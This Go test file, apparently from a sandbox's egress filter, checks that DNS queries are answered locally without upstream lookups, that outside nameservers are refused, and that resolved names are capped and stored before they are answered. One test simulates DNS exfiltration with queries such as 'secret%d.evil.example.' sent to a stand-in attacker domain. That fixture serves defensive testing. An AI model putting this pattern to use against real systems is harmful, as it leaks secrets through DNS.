package egress

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/cofferdam/cofferdam/internal/egress/names"
	"github.com/cofferdam/cofferdam/internal/task"
)

func TestNothingIsLookedUpForTheInside(t *testing.T) {
	r := newRig(t, []task.Rule{private("ok.test", 443)})
	for i := range 50 {
		for _, kind := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeHTTPS, dns.TypeMX, dns.TypeSRV, dns.TypeNS, dns.TypeANY} {
			q := new(dns.Msg)
			q.SetQuestion(fmt.Sprintf("secret%d.evil.example.", i), kind)
			reply, err := r.client.Ask(r.ctx(), q)
			if err != nil {
				t.Fatal(err)
			}
			address := kind == dns.TypeA || kind == dns.TypeAAAA
			if reply.Rcode != dns.RcodeSuccess || (len(reply.Answer) == 1) != address || reply.Id != q.Id {
				t.Errorf("%s: %v", dns.TypeToString[kind], reply)
			}
		}
	}
	if n := r.resolver.queries(); n != 0 {
		t.Errorf("%d look-ups", n)
	}
}

func TestOtherNameServersAreRefusedAtOnce(t *testing.T) {
	r := newRig(t, []task.Rule{{ID: "r", Host: "8.8.8.8", Ports: []uint16{53}}})
	for _, to := range []string{"8.8.8.8:53", "[2001:4860:4860::8888]:53", "1.1.1.1:5353", "9.9.9.9:443", "198.18.0.1:123"} {
		c, err := r.client.Packet(netip.MustParseAddrPort(to))
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(10 * time.Second))
		// The error of one packet is told with the next.
		for begun := time.Now(); err == nil && time.Since(begun) < 10*time.Second; time.Sleep(time.Millisecond) {
			_, err = c.Write([]byte("................"))
		}
		if err == nil || !strings.Contains(err.Error(), "refused") {
			t.Errorf("%s: %v, want an ICMP error", to, err)
		}
		c.Close()
	}
	if c, err := r.client.Dial(r.ctx(), netip.MustParseAddrPort("8.8.8.8:53")); err == nil {
		c.Close()
		t.Error("DNS over TCP to another server is open")
	}
	r.await("udp", func(rec task.EgressRecord) bool {
		return rec.Protocol == "dns" && rec.Address == "8.8.8.8" && rec.Reason == task.PolicyProtocol
	})
	r.await("v6", func(rec task.EgressRecord) bool {
		return rec.Address == "2001:4860:4860::8888" && rec.Reason == task.PolicyProtocol
	})
	r.await("tcp", func(rec task.EgressRecord) bool {
		return rec.Conn > 0 && rec.Address == "8.8.8.8" && rec.Reason == task.PolicyProtocol
	})
}

func TestNameServiceOverTCP(t *testing.T) {
	r := newRig(t, nil)
	conn, err := r.client.Dial(r.ctx(), netip.MustParseAddrPort("198.18.0.1:53"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	co := &dns.Conn{Conn: conn}
	for range 3 {
		q := new(dns.Msg)
		q.SetQuestion("Over.TCP.test.", dns.TypeA)
		if err := co.WriteMsg(q); err != nil {
			t.Fatal(err)
		}
		reply, err := co.ReadMsg()
		if err != nil || len(reply.Answer) != 1 || reply.Question[0].Name != "Over.TCP.test." {
			t.Fatalf("%v, %v", reply, err)
		}
	}
}

func TestNamesKeepTheirAddressAndAreCapped(t *testing.T) {
	r := newRig(t, nil, func(o *Options) { o.Limits.Names = 3 })
	first, err := r.client.Lookup(r.ctx(), "a.test", dns.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	r.client.Lookup(r.ctx(), "b.test", dns.TypeA)
	r.client.Lookup(r.ctx(), "c.test", dns.TypeAAAA)
	if again, _ := r.client.Lookup(r.ctx(), "A.test", dns.TypeA); again != first {
		t.Errorf("%s, then %s", first, again)
	}
	if addr, err := r.client.Lookup(r.ctx(), "d.test", dns.TypeA); err == nil {
		t.Errorf("the fourth of three names got %s", addr)
	}
	r.await("cap", denied(task.LimitNames))
}

func TestNameIsNotToldBeforeItIsStored(t *testing.T) {
	var stored sync.Map
	fail := atomic.Bool{}
	r := newRig(t, nil, func(o *Options) {
		o.Stored = func(_ context.Context, id string, e names.Entry) error {
			if fail.Load() {
				return fmt.Errorf("no worker")
			}
			stored.Store(e.Name, id)
			return nil
		}
	})
	if _, err := r.client.Lookup(r.ctx(), "a.test", dns.TypeA); err != nil {
		t.Fatal(err)
	}
	if id, ok := stored.Load("a.test"); !ok || id != testID {
		t.Error("told, not stored")
	}
	fail.Store(true)
	if addr, err := r.client.Lookup(r.ctx(), "b.test", dns.TypeA); err == nil {
		t.Errorf("told %s, which nobody stored", addr)
	}
	if _, err := r.client.Lookup(r.ctx(), "a.test", dns.TypeA); err != nil {
		t.Errorf("a stored name needs nobody: %v", err)
	}
	fail.Store(false)
	if _, err := r.client.Lookup(r.ctx(), "b.test", dns.TypeA); err != nil {
		t.Errorf("once the worker is back: %v", err)
	}
}
